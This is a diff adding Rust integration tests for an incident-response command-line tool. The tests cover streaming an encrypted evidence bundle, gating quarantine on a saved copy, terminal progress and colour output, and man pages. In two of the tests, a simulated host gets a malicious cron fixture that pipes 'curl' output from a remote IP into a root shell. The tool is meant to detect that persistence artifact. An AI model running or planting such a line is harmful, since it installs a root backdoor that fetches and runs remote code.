@@ -234,3 +234,249 @@ fn a_configured_path_missing_under_root_is_warned_about_by_every_command() {
         );
     }
 }
+
+/// `ir collect -o -`: the bundle on stdout and nowhere on the host's disk;
+/// the manifest copy, the sidecar and the journal entry in the case dir; it
+/// verifies where it is received; and it does not unlock destructive steps
+/// on the host until a copy with its hash is put at its recorded name.
+#[test]
+fn collect_streams_the_bundle_to_stdout() {
+    let h = Host::files();
+    let cron = h.path("/etc/cron.d/sync");
+    std::fs::create_dir_all(cron.parent().unwrap()).unwrap();
+    std::fs::write(&cron, "* * * * * root curl -s http://91.92.242.30/s | sh\n").unwrap();
+    let (key, recipient) = crate::collect::keypair(h.dir.path());
+    let o = h
+        .ir()
+        .args(["collect", "-r", &recipient, "-o", "-"])
+        .output()
+        .unwrap();
+    assert!(o.status.success(), "{}", stderr(&o));
+    assert!(o.stdout.starts_with(b"age-encryption.org/v1\n"));
+    let err = stderr(&o);
+    let sha = err
+        .lines()
+        .find_map(|l| l.strip_prefix("ir: bundle streamed to stdout, sha256 "))
+        .expect("the hash on stderr")
+        .to_string();
+    let mut hasher = <sha2::Sha256 as sha2::Digest>::new();
+    sha2::Digest::update(&mut hasher, &o.stdout);
+    assert_eq!(hex::encode(sha2::Digest::finalize(hasher)), sha);
+    let names: Vec<String> = std::fs::read_dir(&h.case)
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .collect();
+    assert!(
+        !names
+            .iter()
+            .any(|n| n.ends_with(".tar.gz.age") || n.contains("partial")),
+        "{names:?}"
+    );
+    assert!(
+        names.iter().any(|n| n.ends_with(".manifest.json")),
+        "{names:?}"
+    );
+    let sidecar = names
+        .iter()
+        .find(|n| n.ends_with(".tar.gz.age.sha256"))
+        .expect("sidecar");
+    let line = std::fs::read_to_string(h.case.join(sidecar)).unwrap();
+    assert!(line.starts_with(&sha), "{line}");
+    let end = h
+        .entries()
+        .into_iter()
+        .rev()
+        .find(|e| e["kind"] == "end" && e["command"] == "collect")
+        .expect("the collect end entry");
+    assert_eq!(end["details"]["streamed"], true, "{end}");
+    assert!(end.to_string().contains(&sha), "{end}");
+    // Received: it verifies with the key, next to the case's journal.
+    let bundle = h.case.join(sidecar.trim_end_matches(".sha256"));
+    let received = h.dir.path().join("received.age");
+    std::fs::write(&received, &o.stdout).unwrap();
+    let v = h
+        .ir()
+        .arg("verify")
+        .arg(&received)
+        .arg("-i")
+        .arg(&key)
+        .output()
+        .unwrap();
+    assert_eq!(v.status.code(), Some(0), "{}{}", stdout(&v), stderr(&v));
+    // The gate: refused while no copy is on the host, named why.
+    let q = || {
+        h.ir()
+            .args(["quarantine", "/etc/cron.d/sync"])
+            .output()
+            .unwrap()
+    };
+    let c = q();
+    assert_eq!(c.status.code(), Some(2));
+    assert!(
+        stderr(&c).contains("streamed its bundle to stdout"),
+        "{}",
+        stderr(&c)
+    );
+    assert!(cron.exists());
+    // Put at its recorded name, it counts.
+    std::fs::write(&bundle, &o.stdout).unwrap();
+    let c = q();
+    assert_eq!(c.status.code(), Some(0), "{}", stderr(&c));
+    assert!(!cron.exists());
+}
+
+#[test]
+fn collect_to_stdout_refuses_what_cannot_be() {
+    let h = Host::files();
+    let (_, recipient) = crate::collect::keypair(h.dir.path());
+    let o = h
+        .ir()
+        .args(["--json", "collect", "-r", &recipient, "-o", "-"])
+        .output()
+        .unwrap();
+    assert_error_doc(&o);
+    let o = h
+        .ir()
+        .args(["collect", "-r", &recipient, "-o", "/tmp/x.age"])
+        .output()
+        .unwrap();
+    assert_eq!(o.status.code(), Some(2));
+    assert!(stderr(&o).contains("only - (stdout)"), "{}", stderr(&o));
+    // No key, no bundle: there is no plaintext mode, streamed or not.
+    let o = h.ir().args(["collect", "-o", "-"]).output().unwrap();
+    assert_eq!(o.status.code(), Some(2));
+    assert!(o.stdout.is_empty());
+}
+
+/// Runs `ir ARGS` on `h` under a pseudo-terminal (`script`), returning what
+/// the terminal showed, or `None` when `script` is missing.
+fn on_a_terminal(h: &Host, args: &str) -> Option<String> {
+    let script = std::path::Path::new("/usr/bin/script");
+    if !script.exists() {
+        eprintln!("SKIPPED: no /usr/bin/script for a pseudo-terminal");
+        return None;
+    }
+    let cmd = format!(
+        "{} --root {} --case {} {args}",
+        env!("CARGO_BIN_EXE_ir"),
+        h.root.display(),
+        h.case.display()
+    );
+    let o = std::process::Command::new(script)
+        .args(["-qec", &cmd, "/dev/null"])
+        .env_clear()
+        .env("HOME", &h.home)
+        .env("PATH", "/usr/bin:/bin")
+        .env("TERM", "xterm")
+        .output()
+        .unwrap();
+    Some(stdout(&o))
+}
+
+#[test]
+fn progress_bars_and_colour_only_on_a_terminal() {
+    let h = Host::files();
+    let cron = h.path("/etc/cron.d/sync");
+    std::fs::create_dir_all(cron.parent().unwrap()).unwrap();
+    std::fs::write(&cron, "* * * * * root curl -s http://91.92.242.30/s | sh\n").unwrap();
+    let (key, recipient) = crate::collect::keypair(h.dir.path());
+    let Some(tty) = on_a_terminal(&h, &format!("collect -r {recipient}")) else {
+        return;
+    };
+    assert!(tty.contains("collecting "), "{tty}");
+    assert!(tty.contains("% "), "{tty}");
+    assert!(tty.contains(" files "), "{tty}");
+    assert!(tty.contains("KiB"), "human sizes: {tty}");
+    let bundle = std::fs::read_dir(&h.case)
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .find(|p| p.to_string_lossy().ends_with(".tar.gz.age"))
+        .unwrap();
+    let v = on_a_terminal(
+        &h,
+        &format!("verify {} -i {}", bundle.display(), key.display()),
+    )
+    .unwrap();
+    assert!(v.contains("  checking "), "{v}");
+    // -q and --json: no bar, even on a terminal; without one: never.
+    let q = on_a_terminal(
+        &h,
+        &format!("-q verify {} -i {}", bundle.display(), key.display()),
+    )
+    .unwrap();
+    assert!(!q.contains("  checking "), "{q}");
+    let o = h
+        .ir()
+        .arg("verify")
+        .arg(&bundle)
+        .arg("-i")
+        .arg(&key)
+        .output()
+        .unwrap();
+    assert!(!stderr(&o).contains('['), "{}", stderr(&o));
+    // Severities: coloured on a terminal, not in a pipe, not with NO_COLOR.
+    let p = on_a_terminal(&h, "persistence").unwrap();
+    assert!(p.contains("\u{1b}[1;31mcritical\u{1b}[0m"), "{p}");
+    let piped = h.ir().arg("persistence").output().unwrap();
+    assert!(!stdout(&piped).contains('\u{1b}'));
+    let forced = h
+        .ir()
+        .args(["--color", "always", "persistence"])
+        .output()
+        .unwrap();
+    assert!(stdout(&forced).contains("\u{1b}[1;31m"));
+    let p = on_a_terminal(&h, "--color never persistence").unwrap();
+    assert!(!p.contains("\u{1b}[1;31m"), "{p}");
+}
+
+#[test]
+fn help_has_global_options_and_examples() {
+    let h = Host::files();
+    for sub in ["collect", "timeline", "journal verify", "inventory"] {
+        let o = h.ir().args(sub.split(' ')).arg("--help").output().unwrap();
+        let out = stdout(&o);
+        assert!(out.contains("\nGlobal options:\n"), "{sub}: {out}");
+        assert!(out.contains("\nExamples:\n  ir "), "{sub}: {out}");
+        let own = out.split("\nGlobal options:\n").next().unwrap();
+        assert!(
+            !own.contains("--examiner"),
+            "{sub}: global option outside its heading"
+        );
+    }
+}
+
+/// Every page `ir.1` (and every other page) names exists, and each has
+/// EXIT STATUS and EXAMPLES.
+#[test]
+fn man_pages_exist_for_every_subcommand() {
+    let h = Host::files();
+    let dir = h.dir.path().join("man");
+    h.ir().arg("man").arg("--dir").arg(&dir).assert().success();
+    let pages: Vec<String> = std::fs::read_dir(&dir)
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .collect();
+    assert!(pages.len() > 20, "{pages:?}");
+    let re = regex::Regex::new(r"(ir(?:\\-[a-z]+)+)\(1\)").unwrap();
+    let mut named = 0;
+    for p in &pages {
+        let text = std::fs::read_to_string(dir.join(p)).unwrap();
+        assert!(text.contains(".SH \"EXIT STATUS\""), "{p}");
+        assert!(text.contains(".SH EXAMPLES"), "{p}");
+        for c in re.captures_iter(&text) {
+            let file = format!("{}.1", c[1].replace("\\-", "-"));
+            assert!(
+                pages.contains(&file),
+                "{p} names {file}, which does not exist"
+            );
+            named += 1;
+        }
+    }
+    assert!(named >= 20, "{named}");
+    let collect = h.ir().args(["man", "collect"]).output().unwrap();
+    let page = stdout(&collect);
+    assert!(
+        page.contains(".TH ") && page.contains("ir\\-collect"),
+        "{page}"
+    );
+}
